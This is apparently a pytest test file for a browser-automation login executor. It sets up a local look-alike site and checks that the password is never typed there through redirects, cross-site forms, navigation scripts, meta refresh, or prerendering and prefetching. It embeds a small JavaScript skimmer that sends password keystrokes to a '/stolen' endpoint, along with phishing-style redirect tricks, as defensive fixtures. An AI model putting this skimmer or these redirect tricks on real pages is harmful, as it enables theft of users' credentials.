"""A site that leads the browser elsewhere: nothing goes there, whatever it looks like and however it is led."""

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import web

from executor.browser import browser
from executor.browser.flags import LAUNCH_ARGUMENTS
from executor.browser.pool import BrowserPool
from models.domain.lifecycle import Status
from tests.executor.conftest import MakeJob, do
from tests.executor.served import served

_PASSWORD = "hunter2 at home"
_FORM = """<h1>Log in to Commons</h1><form method="post" action="{action}" {more}>
<label>Email or user ID <input name="login" {typing}></label>
<label>Password <input type="password" name="password"></label>
<button>Log in</button></form>{end}"""
_AHEAD = """<script type="speculationrules">{"%s": [{"urls": ["/ahead"], "eagerness": "immediate"}]}</script><script>
const form = document.querySelector("form");
form.hidden = true;
setTimeout(() => { form.hidden = false; }, 600);  // a browser that loads ahead has done so by then
</script>"""
_THIEF = """<script>document.querySelector("[type=password]").addEventListener(
"input", event => fetch("/stolen?" + event.target.value))</script>"""


@dataclass
class Trap:
    """A site with a log-in form, and a look-alike at another port and another name of this machine."""

    url: str = ""
    elsewhere: str = ""
    way: str = ""
    came: list[str] = field(default_factory=list[str])  # what arrived at the look-alike

    async def answer(self, request: web.Request) -> web.Response:
        if f"http://{request.host}" != self.url:
            self.came.append(f"{request.method} {request.path_qs} {await request.text()}")
            return _page("/login", end=_THIEF, headers={"Supports-Loading-Mode": "credentialed-prerender"})
        if self.way == "a redirect" or request.path == "/ahead":
            return web.Response(status=302, headers={"Location": f"{self.elsewhere}{request.path}"})
        return self._screen()

    def _screen(self) -> web.Response:
        match self.way:
            case "a form":
                return _page(f"{self.elsewhere}/login")
            case "a form in a window of its own":
                return _page(f"{self.elsewhere}/login", more='target="_blank"')
            case "a script while the login is typed":
                return _page("/login", typing=f"oninput=\"location = '{self.elsewhere}/login'\"")
            case "a page that is rendered ahead" | "a page that is fetched ahead":
                rule = "prerender" if "rendered" in self.way else "prefetch"
                return _page("/login", typing="oninput=\"location = '/ahead'\"", end=_AHEAD % rule)
            case _:
                return _page("/login", end=f"<meta http-equiv=refresh content='0;{self.elsewhere}/login'>")


def _page(
    action: str, more: str = "", typing: str = "", end: str = "", headers: dict[str, str] | None = None
) -> web.Response:
    text = _FORM.format(action=action, more=more, typing=typing, end=end)
    return web.Response(text=text, content_type="text/html", headers=headers)


@pytest_asyncio.fixture(loop_scope="session")
async def trap() -> AsyncIterator[Trap]:
    trap = Trap()
    async with served(trap.answer, ports=2) as (trap.url, trap.elsewhere):
        yield trap


@pytest.mark.asyncio(loop_scope="session")
@pytest.mark.usefixtures("short_waits", "ready_pictures")
@pytest.mark.parametrize(
    ("way", "to"),
    [
        ("a redirect", "another port"),
        ("a redirect", "another name"),
        ("a redirect", "https"),
        ("a form", "another port"),
        ("a form in a window of its own", "another port"),
        ("a script while the login is typed", "another port"),
        ("a page that refreshes itself", "another port"),
        ("a page that is rendered ahead", "another port"),
        ("a page that is fetched ahead", "another port"),
    ],
)
async def test_no_password_is_typed_at_another_site(
    way: str, to: str, trap: Trap, make_job: MakeJob, browsers: BrowserPool
) -> None:
    trap.way = way
    if to == "another name":
        trap.elsewhere = trap.url.replace("127.0.0.1", "localhost")
    if to == "https":
        trap.elsewhere = trap.url.replace("http:", "https:")
    done = await do(make_job(site_url=trap.url, session=None, password=_PASSWORD), browsers)

    assert trap.came == []
    assert done.outcome.status is Status.UNKNOWN_ERROR or "window" in way
    assert (done.outcome.result == "The site redirected to another site.") is ("window" not in way)


@pytest.mark.asyncio(loop_scope="session")
@pytest.mark.usefixtures("short_waits", "ready_pictures")
async def test_a_page_that_another_browser_fetched_ahead_of_our_guard_gets_no_password(
    trap: Trap, make_job: MakeJob, chromium: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = [switch for switch in LAUNCH_ARGUMENTS if "-features=" not in switch]
    monkeypatch.setattr(browser, "LAUNCH_ARGUMENTS", theirs)
    trap.way = "a page that is fetched ahead"
    pool = BrowserPool(contexts=1, executable=chromium)
    try:
        done = await do(make_job(site_url=trap.url, session=None, password=_PASSWORD), pool)
    finally:
        await pool.aclose()

    assert [line.split()[:2] for line in trap.came[:1]] == [["GET", "/ahead"]]
    assert not any("stolen" in line for line in trap.came)
    assert done.outcome.result == "The site redirected to another site."


@pytest.mark.parametrize("user", [1000, 0])
def test_the_browsers_sandbox_is_on_for_everybody_but_root(
    monkeypatch: pytest.MonkeyPatch, user: int
) -> None:
    monkeypatch.setattr("os.geteuid", lambda: user)

    assert BrowserPool()._sandboxed() is (user != 0)
